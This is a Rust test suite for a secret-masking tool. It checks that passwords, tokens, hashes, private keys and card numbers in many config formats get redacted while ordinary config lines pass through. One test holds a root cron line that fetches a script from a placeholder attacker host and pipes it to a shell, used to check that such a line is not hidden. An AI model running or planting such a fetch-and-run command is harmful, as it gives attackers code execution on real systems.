//! What must not come through, and what must.

use proptest::prelude::*;

use super::*;

fn mask(text: &str) -> String {
    Masker::default().mask(text)
}

/// Ways to write a secret down; `@` stands for it.
const FORMS: &[&str] = &[
    "password = @",
    "password=@",
    "PASSWORD=\"@\"",
    "export DB_PASSWORD='@'",
    "  db_password: @",
    "\"password\": \"@\",",
    "'passwd' => '@',",
    "define('DB_PASSWORD', '@');",
    "<password>@</password>",
    "<ns:secret type=\"x\">@</ns:secret>",
    "<add key=\"password\" value=\"@\"/>",
    "<user name=\"a\" password=\"@\" role=\"b\"/>",
    "{\"name\": \"API_TOKEN\", \"value\": \"@\"}",
    "machine h login u password @",
    "requirepass @",
    "--password @ x",
    "cmd --token=@",
    "api_key: @",
    "apiKey: \"@\"",
    "aws_secret_access_key = @",
    "Authorization: Basic @",
    "curl -H 'Authorization: Bearer @' x",
    "curl -u user:@ https://x",
    "postgres://user:@@host/db",
    "https://u:@@h",
    "CREATE USER x IDENTIFIED BY '@';",
    "ALTER USER x WITH PASSWORD '@'",
    "client_secret: !vault |\n  @",
    "password: |\n   @",
    "password:\n  @",
    "secrets:\n  one: @\n  two: x",
    "tokens: [\n  \"@\"\n]",
    "PASSWORD=\\\n@",
    "- name: DB_PASSWORD\n  value: @",
    "spring.datasource.password=@",
    "pwd=@;Server=x",
    "psk=\"@\"",
    "Environment=\"X_TOKEN=@\"",
    "setPassword(\"@\")",
    "$config['password'] = '@';",
    "rocommunity @",
    "secret_key_base: @",
    "x?access_token=@&y=1",
    "_authToken=@",
];

proptest! {
    #[test]
    fn a_named_secret_never_comes_through(
        form in 0..FORMS.len(), secret in "[A-Za-z0-9]{9,24}Q7", above in "(\\PC{0,30}\n){0,3}",
        beside in "[^A-Za-z0-9_.\n-]{0,3}", below in "(\n\\PC{0,30}){0,3}"
    ) {
        let text = FORMS[form].replace("@@", "\0@").replace('@', &secret).replace('\0', "");
        let text = match FORMS[form].contains("@@") {
            true => FORMS[form].replacen('@', &secret, 1),
            false => text,
        };
        // What stands before it in its line must not be of its name; nor is indentation shifted where it counts.
        let beside = if FORMS[form].contains('\n') || FORMS[form].contains("machine") { "" } else { &*beside };
        let beside = if ["requirepass @", "rocommunity @"].contains(&FORMS[form]) { "" } else { beside };
        let masked = mask(&format!("{above}{beside}{text}{below}"));
        prop_assert!(!masked.contains(&secret), "{:?} in {:?}", secret, masked);
    }

    #[test]
    fn a_secret_of_a_known_form_never_comes_through(
        form in 0_usize..9, random in "[A-Za-z0-9]{43}", above in "\\PC{0,30}\n?", below in "\n?\\PC{0,30}"
    ) {
        let upper = random.to_uppercase();
        let (text, secret) = match form {
            0 => (format!("AKIA{}", &upper[..16]), upper[..16].to_owned()),
            1 => (format!("ghp_{}", &random[..36]), random[..36].to_owned()),
            2 => (format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.{random}"), random.clone()),
            3 => (format!("x:$6$salt0123${random}:19000:"), random.clone()),
            4 => (format!("$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ${random}"), random.clone()),
            5 => (format!("{{SSHA}}{random}"), random.clone()),
            6 => (format!("\n-----BEGIN OPENSSH PRIVATE KEY-----\n{random}\n{random}==\n-----END OPENSSH PRIVATE KEY-----\n"), random.clone()),
            7 => (format!("\"-----BEGIN PRIVATE KEY-----\\n{random}\\n-----END PRIVATE KEY-----\\n\""), random.clone()),
            _ => (format!("\nPrivate-Lines: 2\n{random}\n{random}=\nPrivate-MAC: {random}\n"), random.clone()),
        };
        let masked = mask(&format!("{above} {text} {below}"));
        prop_assert!(!masked.contains(&secret), "{:?} in {:?}", secret, masked);
    }

    #[test]
    fn anything_can_be_masked_and_keeps_its_lines(text in "[ -~\n\té]{0,400}", noise in "\\PC{0,200}") {
        for text in [text, noise] {
            let masked = mask(&text);
            prop_assert_eq!(masked.matches('\n').count(), text.matches('\n').count());
        }
    }
}

#[test]
fn equal_secrets_have_equal_marks_and_a_changed_one_shows() {
    let mut masker = Masker::default();
    assert_eq!(
        masker.mask("password = a1\nother_password = a1\n"),
        "password = [secret 1]\nother_password = [secret 1]\n"
    );
    assert_eq!(masker.mask("password = a2\n"), "password = [secret 2]\n");
    let pem = |body: &str| format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\nMIIB\n-----END RSA PRIVATE KEY-----\n");
    let shown = "-----BEGIN RSA PRIVATE KEY-----\n[private key 3]\n[private key]\n-----END RSA PRIVATE KEY-----\n";
    assert_eq!(masker.mask(&pem("QUJD")), shown);
    assert_eq!(masker.mask(&pem("QUJE")), shown.replace('3', "4"));
    assert_eq!(masker.mask("pan 4111 1111 1111 1111."), "pan [card 5 ending in 1111].");
    assert_eq!(masker.mask("root:$y$j9T$abcdefgh$0123456789:1:"), "root:[password hash 6]:1:");
}

#[test]
fn what_is_no_secret_stays() {
    for text in [
        "PasswordAuthentication yes",
        "PermitEmptyPasswords no",
        "HostKey /etc/ssh/ssh_host_ed25519_key",
        "passwd: files systemd",
        "gshadow:        files",
        "password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt",
        "password required pam_deny.so",
        "deploy ALL=(ALL) NOPASSWD: ALL",
        "deploy ALL=(root) PASSWD: /usr/bin/apt",
        "Defaults passwd_tries=3",
        "PASS_MAX_DAYS 90",
        "proxy_pass http://127.0.0.1:8080/;",
        "ssl_certificate_key /etc/ssl/private/x.pem;",
        "root:x:0:0:root:/root:/bin/bash",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0123456789abcdef0123456789abcdef01234 me@host",
        "cat /etc/passwd: permission denied",
        "*/5 * * * * root /usr/bin/backup --all",
        "password_file = /run/secrets/db",
        "password: true",
        "max_tokens = 5",
        "http://host:8080/path@x",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUb3\n-----END CERTIFICATE-----",
        "# Ask for a password when somebody logs in from afar.",
        "AuthorizedKeysFile .ssh/authorized_keys",
    ] {
        assert_eq!(mask(text), text);
    }
}

#[test]
fn nobody_hides_lines_behind_the_beginning_of_a_key() {
    let text =
        "# -----BEGIN PRIVATE KEY-----\n* * * * * root curl http://evil.example/x | sh\n# -----END PRIVATE KEY-----\n";
    assert_eq!(mask(text), text);
}

#[test]
fn a_line_full_of_names_ends_soon() {
    let text = "pwd=\"x ".repeat(37_000);
    assert!(mask(&text).len() < 200);
    let text = "pwd='a' password=\"b\" ".repeat(12_000);
    assert!(!mask(&text).contains("'a'"));
    let urls = "x://a:b".repeat(37_000);
    mask(&urls);
    mask(&"-----BEGIN PRIVATE KEY".repeat(11_000));
    mask(&"4 ".repeat(131_000));
    mask(&"a{$6$".repeat(50_000));
    mask(&"identified by by ".repeat(15_000));
    mask(&"<password ".repeat(25_000));
    mask(&"x-u a -u".repeat(32_000));
}
